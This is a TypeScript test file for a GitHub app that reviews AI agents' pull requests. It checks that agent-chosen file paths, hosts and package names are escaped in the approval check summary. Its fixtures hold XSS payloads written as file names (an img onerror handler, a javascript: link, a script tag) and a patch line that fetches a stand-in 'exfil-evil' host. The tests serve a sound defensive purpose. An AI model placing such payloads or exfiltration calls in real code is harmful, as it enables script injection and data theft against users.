/**
 * Nothing agent-chosen is live markup in the approval check (issue 11): file paths, and the hosts and package names
 * the findings quote, are escaped like telemetry text. A real pull_request payload in through probot.receive, the
 * check run GitHub would get out (nock), rendered with a GFM-like renderer (markdown-it with HTML and linkify on,
 * as GitHub autolinks bare URLs) to see what a reader would get.
 */
import MarkdownIt from "markdown-it";
import nock from "nock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { RISK_LABEL_COLORS } from "../../src/policy/render.js";
import { nockAddLabels, nockRequestReviewers, requests } from "../helpers/github.js";
import { agentPullRequest, createApp, nockEvaluation } from "./scenario.js";

beforeEach(() => requests.reset());
afterEach(() => {
  const pending = nock.pendingMocks();
  nock.cleanAll();
  expect(pending).toEqual([]);
});

const patchOf = (added: string[]) => `@@ -0,0 +1,${added.length} @@\n${added.map((l) => `+${l}`).join("\n")}`;
const ZWJ = "\u200D";
const gfm = new MarkdownIt({ html: true, linkify: true });

/** Hostile file names an agent can commit (git allows all of them), each with a reason to be in the findings. */
const FILES = [
  { filename: "src/@Codertocat/security/<img src=x onerror=alert(1)>.ts", patch: patchOf(['await fetch("https://www.exfil-evil.io/steal")']) },
  { filename: "src/auth/[x](javascript:alert(1)).ts", patch: patchOf(["export const ok = true;"]) },
  { filename: "src/auth/https:/evil.example/<script>alert(1)</script>.ts", patch: patchOf(["export const ok = true;"]) },
  { filename: "package.json", patch: patchOf(['  "dependencies": {', '    "@codertocat/security": "^1.0.0"', "  }"]) },
];

describe("agent-chosen text in the approval check", () => {
  it("invariant 7 (agent output is data): hostile file paths, hosts and package names render inert in the approval check", async () => {
    const { probot } = await createApp();
    const event = agentPullRequest(FILES);
    const check = nockEvaluation(event, { codeownersErrors: [], files: FILES });
    nockAddLabels([], { addedColor: RISK_LABEL_COLORS.high });
    nockRequestReviewers();
    await probot.receive({ id: "markup-1", ...event });

    const summary: string = check.body.output.summary;
    // The findings name what the agent chose: the dependency, the host, the paths.
    expect(summary).toContain("dependency-added");
    expect(summary).toContain("external-host");
    const html = gfm.render(summary);
    // No link, autolink, image, script or event handler came out of the agent's names.
    expect(html).not.toMatch(/<a\s/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<[^>]+\sonerror=/i);
    expect(summary).not.toMatch(/\]\(javascript:/);
    // GFM autolinks `www.` even without a scheme: the dot after it is broken (a zero-width space).
    expect(summary).not.toMatch(/www\.exfil-evil/);
    // Mentions of the agent's making are broken (a zero-width joiner after @); the base's CODEOWNERS owners stay live.
    expect(summary).not.toMatch(/@codertocat\/security/i);
    expect(summary).toContain(`@${ZWJ}codertocat/security`);
    expect(summary).toContain(`@${ZWJ}Codertocat/security/`);
    expect(summary).toContain("@Codertocat/maintainers");
    // Still readable: the escaped text shows the names as they are.
    const text = html.replace(/<[^>]+>/g, "").replace(/[\u200B\u200D]/g, "");
    expect(text).toContain("src/@Codertocat/security/&lt;img src=x onerror=alert(1)&gt;.ts");
    expect(text).toContain("www.exfil-evil.io");
    // Annotations are plain text on GitHub: their paths are the real ones, their messages carry no live mention.
    const annotations: Array<{ path: string; message: string }> = check.body.output.annotations;
    expect(annotations.map((a) => a.path)).toContain(FILES[0]!.filename);
    for (const a of annotations) expect(a.message).not.toMatch(/@codertocat\/security/i);
  });
});
